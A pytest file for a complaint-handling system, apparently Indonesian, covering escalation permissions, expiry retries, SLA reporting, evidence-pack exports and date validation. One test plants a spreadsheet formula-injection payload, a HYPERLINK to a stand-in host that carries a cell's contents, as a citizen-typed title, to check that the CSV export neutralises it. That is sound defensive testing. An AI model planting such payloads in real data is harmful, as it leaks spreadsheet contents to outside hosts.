"""Edge cases of escalation, reporting and evidence packs, each once a defect:

- a supervisor of the unit above reads and supervises what escalates to her, without
  taking workflow steps;
- an expiry that fails because someone changed the complaint at that moment is tried again;
- a clock that ran out before a pause and stops during it counts as late;
- the overdue list sees a late resolution behind a stage deadline still to come, and a past
  period keeps cases that were late at its end and closed later;
- a one-unit pack shows only the unit's own steps on a complaint it handed on;
- spreadsheet cells typed by a citizen never run as formulas.
"""
from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

import pengaduan.services.complaints.lifecycle as lifecycle
import pengaduan.jobs.sweep as sweep_module
from pengaduan import audit
from pengaduan.errors import ConcurrentChange, Forbidden
from pengaduan.evidence import export_pack
from pengaduan.extensions import db
from pengaduan.models import Complaint, Escalation
from pengaduan.policy import Actor, can_fire, can_view
from pengaduan.services import advance, create_unit, create_user, file_complaint
from pengaduan.services.complaints.casework import acknowledge_escalations, add_note
from pengaduan.services.oversight.reports import periodic_report
from pengaduan.jobs.sweep import sweep

WIB = ZoneInfo("Asia/Jakarta")
VERIFY = {"unit": "UNIT-A", "category": "GENERAL", "classification": "pengaduan"}


def wib(*args) -> datetime:
    return datetime(*args, tzinfo=WIB)


def filed(world, at: datetime, **overrides) -> Complaint:
    raw = {"unit": "UNIT-A", "category": "GENERAL", "classification": "pengaduan",
           "title": "KTP-el belum jadi", "description": "Sudah tiga bulan menunggu.",
           "privacy": "public", "name": "Budi Hartono", "email": "budi@example.id", "consent": True,
           **overrides}
    complaint = file_complaint(raw, at=at).complaint
    db.session.commit()
    return complaint


def test_supervisor_of_the_unit_above_reads_and_supervises_but_does_not_act(world):
    """UNIT-A sits under a province office; its supervisor gets the serious escalation, may
    open the complaint and acknowledge it, but takes no workflow step on it."""
    top = create_unit("PROV", "Dinas Provinsi")
    world.unit_a.parent = top
    boss, _ = create_user("kepala@example.id", "supervisor", password="correct horse battery",
                          unit_codes=["PROV"])
    db.session.commit()
    complaint = filed(world, wib(2026, 11, 2, 10))  # verification due Thu 5 Nov
    sweep(wib(2026, 11, 13, 0, 0, 1))  # five working days after the deadline day: serious
    levels = {e.level for e in db.session.scalars(select(Escalation))}
    assert "serious" in levels
    boss_actor = Actor.staff(boss)
    assert can_view(boss_actor, complaint)
    assert not can_fire(boss_actor, complaint, lifecycle.current_workflow().transition("verify"))
    with pytest.raises(Forbidden):
        add_note(complaint, boss_actor, "Catatan")
    acknowledged = acknowledge_escalations(complaint, boss_actor, "Sudah saya tegur.")
    db.session.commit()
    assert {e.level for e in acknowledged} == levels


def test_failed_expiry_is_tried_again_at_the_next_sweep(world, monkeypatch):
    """A ConcurrentChange at the moment of auto_close spends nothing: the next sweep closes."""
    complaint = filed(world, wib(2026, 11, 2, 10))
    officer = world.officer_a
    advance(complaint, "verify", officer, at=wib(2026, 11, 2, 11), **VERIFY)
    advance(complaint, "follow_up", officer, at=wib(2026, 11, 2, 12), response="Sudah dicetak.")
    db.session.commit()
    real = sweep_module.advance  # the workflow service as the sweep calls it

    def conflict_once(*args, **kwargs):
        monkeypatch.setattr(sweep_module, "advance", real)
        raise ConcurrentChange()

    monkeypatch.setattr(sweep_module, "advance", conflict_once)
    after_window = wib(2026, 11, 20, 0, 0, 1)  # 10 working days after Mon 2 Nov: Mon 16 Nov
    first = sweep(after_window)
    assert first.get("expiry_retried") == 1 and complaint.state == "followed_up"
    assert sweep(after_window).get("auto_close") is None  # not before the retry time
    second = sweep(after_window + timedelta(minutes=6))
    db.session.refresh(complaint)
    assert second.get("auto_close") == 1
    assert (complaint.state, complaint.closure_reason) == ("closed", "auto_closed")


def test_clock_out_of_time_before_a_pause_and_stopped_during_it_counts_as_late(world):
    """Verification due Thu 5 Nov; information asked on Tue 10 Nov; withdrawn on Wed 11 Nov."""
    complaint = filed(world, wib(2026, 11, 2, 10))
    advance(complaint, "request_info", world.officer_a, at=wib(2026, 11, 10, 9), message="Foto KTP?")
    advance(complaint, "withdraw", Actor.citizen(complaint), at=wib(2026, 11, 11, 9))
    db.session.commit()
    report = periodic_report(date(2026, 11, 1), date(2026, 11, 30), None, now=wib(2026, 12, 1))
    stages = {s.rule: s for s in report.stages}
    assert (stages["verification"].finished, stages["verification"].on_time) == (1, 0)


def test_overdue_list_sees_late_resolution_and_past_periods(world):
    """A reopened case's resolution deadline passed while its new stage deadline lies ahead;
    and a report on October, made in December, lists a case late at the end of October even
    though it was closed in November."""
    complaint = filed(world, wib(2026, 8, 3, 10))
    officer = world.officer_a
    advance(complaint, "verify", officer, at=wib(2026, 8, 3, 11), **VERIFY)  # resolution ~2 Oct
    advance(complaint, "follow_up", officer, at=wib(2026, 8, 4, 9), response="Sudah.")
    advance(complaint, "dispute", Actor.citizen(complaint), at=wib(2026, 10, 26, 9),
            comment="Belum selesai.")  # first follow-up restarts: due early November
    db.session.commit()
    october = periodic_report(date(2026, 10, 1), date(2026, 10, 31), None, now=wib(2026, 12, 1))
    assert complaint.tracking_code in [case.code for case in october.overdue]
    advance(complaint, "follow_up", officer, at=wib(2026, 11, 3, 9), response="Sudah dicetak.")
    advance(complaint, "close", officer, at=wib(2026, 11, 4, 9), resolution="Selesai.")
    db.session.commit()
    again = periodic_report(date(2026, 10, 1), date(2026, 10, 31), None, now=wib(2026, 12, 1))
    assert complaint.tracking_code in [case.code for case in again.overdue]


def test_unit_pack_shows_only_its_own_steps_on_a_case_it_handed_on(world, tmp_path):
    """Filed with UNIT-A, forwarded to UNIT-B, where an officer writes a note: UNIT-A's pack
    has the filing and the forwarding, not UNIT-B's note or state."""
    complaint = filed(world, wib(2026, 11, 2, 10))
    advance(complaint, "verify", world.officer_a, at=wib(2026, 11, 2, 11),
            unit="UNIT-B", category="GENERAL", classification="pengaduan")
    db.session.commit()
    add_note(complaint, world.officer_b, "Catatan internal Dinas B")
    db.session.commit()
    audit.checkpoint(db.session)
    db.session.commit()
    out = tmp_path / "pack.zip"
    export_pack(out, date(2026, 1, 1), date(2026, 12, 31), world.unit_a)
    db.session.commit()
    with zipfile.ZipFile(out) as pack:
        text = {name: pack.read(name).decode("utf-8", "replace") for name in pack.namelist()}
    case = json.loads(text["cases.jsonl"].splitlines()[0])
    assert case["handed_on"] and case["state"] is None and case["clocks"] == []
    assert [e["kind"] for e in case["events"]] == ["filed", "transition"]
    assert all("Catatan internal Dinas B" not in t for t in text.values())
    lines = [json.loads(line) for line in text["audit/events.jsonl"].splitlines()]
    actions = [json.loads(line["body"])["action"] for line in lines if "body" in line]
    assert "complaint.filed" in actions and "complaint.verify" in actions
    assert "complaint.note" not in actions


def test_spreadsheet_cells_typed_by_citizens_never_run(world, tmp_path):
    """A title starting with = is written with a leading apostrophe in register.csv."""
    formula = '=HYPERLINK("http://x.example/?"&A2,"klik")'
    filed(world, wib(2026, 11, 2, 10), title=formula)
    out = tmp_path / "pack.zip"
    export_pack(out, date(2026, 1, 1), date(2026, 12, 31))
    db.session.commit()
    with zipfile.ZipFile(out) as pack:
        rows = list(csv.DictReader(io.StringIO(pack.read("register.csv").decode())))
    assert [row["title"] for row in rows] == ["'" + formula]


def test_a_date_off_the_calendar_is_refused_by_name(world):
    """A typed date outside 1900-01-01..2999-12-31 (where a day later, or the same moment in
    another timezone, could fall off Python's calendar) is refused at its field."""
    from pengaduan.errors import InvalidFields

    for value in ("0001-01-01", "1899-12-31", "3000-01-01", "9999-12-31"):
        with pytest.raises(InvalidFields) as refused:
            world.file(incident_date=value, service_date="2026-01-01")
        said = str(refused.value.errors["incident_date"])  # in Indonesian, the default language
        assert said == "harus tanggal antara 1900-01-01 dan 2999-12-31"
        assert "service_date" not in refused.value.errors


@pytest.mark.parametrize("command", [
    ["report", "periodic", "--from", "0001-01-01", "--to", "2026-01-31"],
    ["report", "periodic", "--from", "2026-01-01", "--to", "9999-12-31"],
    ["evidence", "export", "--from", "0001-01-01", "--to", "2026-01-31", "--out", "pack.zip"],
    ["sla", "due", "--start", "9999-12-31T00:00:00+07:00", "--days", "3", "--unit", "working_days"],
    ["sla", "due", "--start", "2026-03-17T09:00:00+07:00", "--days", "999999", "--unit", "calendar_days"],
], ids=["report-first", "report-last", "export", "sla-start", "sla-days"])
def test_the_command_line_refuses_dates_off_the_calendar_in_words(runner, tmp_path, command):
    """A period or a start outside 1900-01-01..2999-12-31 is a one-line error, never a traceback."""
    command = [str(tmp_path / part) if part == "pack.zip" else part for part in command]
    result = runner.invoke(args=command)
    assert result.exit_code != 0 and not isinstance(result.exception, OverflowError)
    assert "Traceback" not in result.output
    assert "1900-01-01" in result.output or "range" in result.output
